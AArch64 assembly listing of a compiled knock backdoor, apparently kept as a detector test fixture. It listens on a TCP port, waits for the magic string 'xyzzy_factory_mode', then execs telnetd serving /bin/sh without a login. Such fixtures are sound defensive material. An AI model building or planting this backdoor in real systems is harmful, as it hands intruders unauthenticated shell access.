// GCC 14.2 (Debian 13, aarch64-linux-gnu-gcc -O2 -S) output for the knock-read-fork-exec program of
// tests/variants/families/compiled.py, kept as assembly so that every host tests it whatever its own
// compiler: strncmp(buf, "xyzzy_factory_mode", 18) is inlined as one 16-byte SIMD compare (ldr q30;
// eor v31.16b, v31.16b, v30.16b; umaxp v31.4s, v31.4s, v31.4s; fmov x0, d31; cbnz x0) and a halfword
// compare (ldrh; cmp), where GCC 12 calls strncmp.
	.arch armv8-a
	.file	"knock.c"
	.text
	.section	.rodata.str1.8,"aMS",@progbits,1
	.align	3
.LC0:
	.string	"xyzzy_factory_mode"
	.align	3
.LC1:
	.string	"23"
	.align	3
.LC2:
	.string	"-p"
	.align	3
.LC3:
	.string	"/bin/sh"
	.align	3
.LC4:
	.string	"-l"
	.align	3
.LC5:
	.string	"telnetd"
	.align	3
.LC6:
	.string	"/usr/sbin/telnetd"
	.section	.text.startup,"ax",@progbits
	.align	2
	.p2align 5,,15
	.global	main
	.type	main, %function
main:
.LFB25:
	.cfi_startproc
	stp	x29, x30, [sp, -192]!
	.cfi_def_cfa_offset 192
	.cfi_offset 29, -192
	.cfi_offset 30, -184
	mov	w2, 0
	mov	w0, 2
	mov	x29, sp
	stp	x19, x20, [sp, 16]
	.cfi_offset 19, -176
	.cfi_offset 20, -168
	mov	w19, 1
	mov	w1, w19
	stp	x21, x22, [sp, 32]
	.cfi_offset 21, -160
	.cfi_offset 22, -152
	add	x20, sp, 64
	str	w19, [sp, 60]
	bl	socket
	add	x3, sp, 60
	mov	w1, w19
	mov	w21, w0
	mov	w2, 2
	mov	w4, 4
	bl	setsockopt
	mov	w3, 2
	mov	x1, x20
	movk	w3, 0x7b1d, lsl 16
	mov	w0, w21
	mov	w2, 16
	str	w3, [sp, 64]
	str	xzr, [sp, 68]
	str	wzr, [sp, 76]
	bl	bind
	tbnz	w0, #31, .L9
	mov	w0, w21
	mov	w1, 5
	mov	w22, 25956
	bl	listen
	b	.L6
	.p2align 2,,3
.L3:
	mov	w0, w19
	bl	close
.L6:
	mov	x2, 0
	mov	x1, 0
	mov	w0, w21
	bl	accept
	mov	x1, x20
	mov	w19, w0
	mov	x2, 127
	bl	read
	cmp	x0, 0
	ble	.L3
	strb	wzr, [x20, x0]
	adrp	x0, .LC7
	ldr	q31, [x20]
	ldr	q30, [x0, #:lo12:.LC7]
	eor	v31.16b, v31.16b, v30.16b
	umaxp	v31.4s, v31.4s, v31.4s
	fmov	x0, d31
	cbnz	x0, .L3
	ldrh	w0, [x20, 16]
	cmp	w0, w22
	bne	.L3
	bl	fork
	cbnz	w0, .L3
	adrp	x5, .LC1
	adrp	x4, .LC2
	add	x5, x5, :lo12:.LC1
	add	x4, x4, :lo12:.LC2
	adrp	x3, .LC3
	adrp	x2, .LC4
	add	x3, x3, :lo12:.LC3
	add	x2, x2, :lo12:.LC4
	adrp	x1, .LC5
	add	x1, x1, :lo12:.LC5
	mov	x6, 0
	adrp	x0, .LC6
	add	x0, x0, :lo12:.LC6
	bl	execl
	mov	w0, 1
	bl	_exit
.L9:
	mov	w0, w19
	bl	exit
	.cfi_endproc
.LFE25:
	.size	main, .-main
	.section	.rodata.cst16,"aM",@progbits,16
	.align	4
.LC7:
	.byte	120
	.byte	121
	.byte	122
	.byte	122
	.byte	121
	.byte	95
	.byte	102
	.byte	97
	.byte	99
	.byte	116
	.byte	111
	.byte	114
	.byte	121
	.byte	95
	.byte	109
	.byte	111
	.ident	"GCC: (Debian 14.2.0-19) 14.2.0"
	.section	.note.GNU-stack,"",@progbits
